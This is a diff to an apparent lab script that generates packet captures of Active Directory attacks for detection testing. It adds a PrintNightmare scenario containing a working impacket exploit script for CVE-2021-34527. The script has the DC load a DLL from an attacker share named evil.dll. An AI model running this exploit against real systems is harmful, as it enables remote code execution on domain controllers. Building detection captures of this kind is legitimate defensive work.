@@ -6,7 +6,7 @@
 #             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
 #             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
 #             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename \
-#             adfs_dkm_read benign_adfs_service_read shadow_credentials dcshadow_registration" \
+#             adfs_dkm_read benign_adfs_service_read shadow_credentials dcshadow_registration printnightmare" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -618,5 +618,51 @@ sc_dcshadow_registration() {
   on atk -- ldapmodify "${L[@]}" -f "$WORK/tmp/dcshadow-unspn.ldif"
   expect 'ldap.protocolOp==8'
   expect 'ldap.protocolOp==6' 2
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST printnightmare"
+
+printnightmare_tool() {
+  mkdir -p "$WORK/tools"
+  cat > "$WORK/tools/add_driver.py" <<'PYEOF'
+# PrintNightmare's call (CVE-2021-1675 / CVE-2021-34527, as cube0x0's and impacket-based
+# exploits send it): RpcAddPrinterDriverEx over \pipe\spoolss with a DRIVER_INFO_2 whose
+# configuration file is a DLL on the attacker's share, and the flags that skip the checks
+# (APD_COPY_ALL_FILES | 0x10 | 0x8000).
+# usage: add_driver.py DOMAIN USER PASSWORD HOST DLL_UNC
+import sys
+from impacket.dcerpc.v5 import transport, rprn
+dom, user, pw, host, dll = sys.argv[1:6]
+t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\PIPE\spoolss]' % host)
+t.set_credentials(user, pw, dom, '', '')
+dce = t.get_dce_rpc()
+dce.connect()
+dce.bind(rprn.MSRPC_UUID_RPRN)
+container = rprn.DRIVER_CONTAINER()
+container['Level'] = 2
+container['DriverInfo']['tag'] = 2
+info = container['DriverInfo']['Level2']
+info['cVersion'] = 3
+info['pName'] = 'Orthrus Lab Driver\x00'
+info['pEnvironment'] = 'Windows x64\x00'
+info['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00'
+info['pDataFile'] = dll + '\x00'
+info['pConfigFile'] = 'C:\\Windows\\System32\\winhttp.dll\x00'
+try:
+    rprn.hRpcAddPrinterDriverEx(dce, pName='\\\\%s\x00' % host, pDriverContainer=container,
+                                dwFileCopyFlags=rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000)
+    print('driver added')
+except Exception as e:
+    print('refused:', e)
+PYEOF
+}
+
+sc_printnightmare() {
+  printnightmare_tool
+  cap_begin printnightmare attack T1210 "$ATK_IP" "$DCFQDN (Print Spooler driver)" \
+    "PrintNightmare (CVE-2021-34527): with a phished account ($RECON_USER), RpcAddPrinterDriverEx over \\\\pipe\\\\spoolss asking the DC's spooler to install a driver whose data file is a DLL on the attacker's share (\\\\\\\\$ATK_IP\\\\share\\\\evil.dll)."
+  on atk 60 -- "$VPY" "$WORK/tools/add_driver.py" "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "\\\\$ATK_IP\\share\\evil.dll"
+  expect 'spoolss.opnum==89'
   cap_end
 }
